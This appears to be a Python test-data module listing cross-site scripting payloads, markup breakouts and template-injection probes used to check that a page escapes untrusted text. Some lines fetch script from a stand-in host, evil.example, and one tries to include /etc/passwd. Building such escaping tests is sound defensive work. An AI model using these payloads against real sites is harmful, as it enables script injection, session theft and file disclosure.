"""Texts that would run as markup or script wherever a page forgot to show them as text."""

_MARKUP = """
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<a href="javascript:alert(1)">click</a>
<a href="jav&#x09;ascript:alert(1)">click</a>
<a href="data:text/html,<script>alert(1)</script>">click</a>
<form action="javascript:alert(1)"><button>go</button></form>
<button formaction="javascript:alert(1)">go</button>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<audio src=x onerror=alert(1)>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<link rel=stylesheet href=//evil.example/x.css>
<style>@import "//evil.example/x.css";</style>
<style>body{background:url(javascript:alert(1))}</style>
<meta http-equiv=refresh content="0;url=//evil.example">
<base href=//evil.example/>
<math><mtext></mtext><script>alert(1)</script></math>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext>
<marquee onstart=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<table background="javascript:alert(1)">
<div style="background:url('javascript:alert(1)')">
<p onmouseover=alert(1)>over</p>
<x contenteditable onblur=alert(1)>lose focus</x>
<input hx-get="/static/site.js" hx-trigger=load>
<div hx-on:click="alert(1)" data-hx-get="/">
<script type=module>import "//evil.example/x.js"</script>
<!--<img src="--><img src=x onerror=alert(1)>">
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</script><script>alert(1)</script>
--><script>alert(1)</script>
"""
_ATTRIBUTES = """
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
"><script>alert(1)</script>
'><script>alert(1)</script>
` onmouseover=alert(1)
javascript:alert(1)
JaVaScRiPt:alert(1)
vbscript:msgbox(1)
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
"""
_TEMPLATES = """
{{ 7 * 7 }}
{% include "/etc/passwd" %}
${7*7}
#{7*7}
<%= 7 * 7 %>
{{ ''.__class__.__mro__ }}
"""
VECTORS = [line for part in (_MARKUP, _ATTRIBUTES, _TEMPLATES) for line in part.strip().splitlines()]
